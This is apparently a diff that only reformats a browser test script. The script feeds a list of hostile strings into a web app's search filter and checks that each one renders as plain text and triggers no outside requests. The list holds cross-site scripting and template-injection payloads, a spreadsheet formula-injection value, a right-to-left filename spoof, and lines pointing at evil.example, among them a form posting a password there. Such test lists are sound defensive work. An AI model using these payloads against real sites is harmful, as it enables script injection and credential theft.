@@ -4,19 +4,57 @@ import { open } from "./browser.mjs";
 
 const RLO = "\u202e";
 const STRINGS = [
-  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
-  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
-  "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
-  "<body onload=alert(1)>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
-  "<base href=//evil.example/>", "<form action=//evil.example><input name=password>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
-  "<math><mi xlink:href=javascript:alert(1)>", "<template><script>alert(1)</script></template>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
-  "{@html '<b>x</b>'}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "{name} {n|one|many} {seconds}", "$& $1 $` $'", "%3Cscript%3Ealert(1)%3C/script%3E",
-  "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)", `${RLO}gpj.exe`, "\u200b\u200d\ufeff", "a\u0300".repeat(60), "=cmd|' /C calc'!A0",
-  "W".repeat(400), "不".repeat(300), "line\nbreak\r\nand\ttab", "😀".repeat(80),
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "<iframe src=javascript:alert(1)>",
+  "<a href=javascript:alert(1)>x</a>",
+  "javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "<body onload=alert(1)>",
+  "<style>*{display:none}</style>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<meta http-equiv=refresh content=0;url=//evil.example>",
+  "<base href=//evil.example/>",
+  "<form action=//evil.example><input name=password>",
+  "<details open ontoggle=alert(1)>",
+  "<video><source onerror=alert(1)>",
+  "<math><mi xlink:href=javascript:alert(1)>",
+  "<template><script>alert(1)</script></template>",
+  "<!--<script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "{@html '<b>x</b>'}",
+  "{{constructor.constructor('alert(1)')()}}",
+  "${alert(1)}",
+  "{name} {n|one|many} {seconds}",
+  "$& $1 $` $'",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "\\u003cscript\\u003ealert(1)",
+  `${RLO}gpj.exe`,
+  "\u200b\u200d\ufeff",
+  "a\u0300".repeat(60),
+  "=cmd|' /C calc'!A0",
+  "W".repeat(400),
+  "不".repeat(300),
+  "line\nbreak\r\nand\ttab",
+  "😀".repeat(80),
 ];
 
 const { page, close } = await open();
-const shown = await page("lang=en", { before: { script: (strings) => { globalThis.hostileStrings = strings; }, value: STRINGS } });
+const shown = await page("lang=en", {
+  before: {
+    script: (strings) => {
+      globalThis.hostileStrings = strings;
+    },
+    value: STRINGS,
+  },
+});
 const requests = [];
 shown.on("request", (request) => requests.push(request.url()));
 const found = [];
@@ -26,7 +64,9 @@ for (const [n, text] of STRINGS.entries()) {
   const name = `${text} ${n}`;
   await shown.fill("#filter", name.toLowerCase().split(/\s+/).at(-2) ? name : String(n));
   await shown.evaluate((wanted) => {
-    const row = [...document.querySelectorAll("[role=option]")].find((one) => one.querySelector(".name")?.textContent === wanted);
+    const row = [...document.querySelectorAll("[role=option]")].find(
+      (one) => one.querySelector(".name")?.textContent === wanted,
+    );
     row?.dispatchEvent(new MouseEvent("click", { bubbles: true }));
   }, name);
   await shown.waitForTimeout(60);
@@ -34,15 +74,20 @@ for (const [n, text] of STRINGS.entries()) {
     title: document.querySelector(".detail h1 span")?.textContent,
     organisation: document.querySelector(".detail li .name")?.textContent,
     wide: document.querySelector(".room").scrollWidth - document.querySelector(".room").clientWidth,
-    foreign: document.querySelectorAll("main :is(script, iframe, img, link, meta, base, video, math, a[href], style)").length,
+    foreign: document.querySelectorAll("main :is(script, iframe, img, link, meta, base, video, math, a[href], style)")
+      .length,
     hidden: getComputedStyle(document.querySelector("main")).display === "none",
   }));
   if (state.title !== name) found.push(`${n}: the name is shown as ${JSON.stringify(state.title)}`);
-  if (state.organisation !== text) found.push(`${n}: the organisation is shown as ${JSON.stringify(state.organisation)}`);
+  if (state.organisation !== text)
+    found.push(`${n}: the organisation is shown as ${JSON.stringify(state.organisation)}`);
   if (state.wide > 1) found.push(`${n}: the pane is ${state.wide} px too wide`);
   if (state.foreign > 0 || state.hidden) found.push(`${n}: became markup`);
 }
-found.push(...shown.wrong, ...requests.filter((url) => !url.startsWith("http://127.0.0.1")).map((url) => `loaded ${url}`));
+found.push(
+  ...shown.wrong,
+  ...requests.filter((url) => !url.startsWith("http://127.0.0.1")).map((url) => `loaded ${url}`),
+);
 await close();
 for (const line of found) console.error(line);
 console.log(`hostile strings: ${STRINGS.length}, ${found.length} findings`);
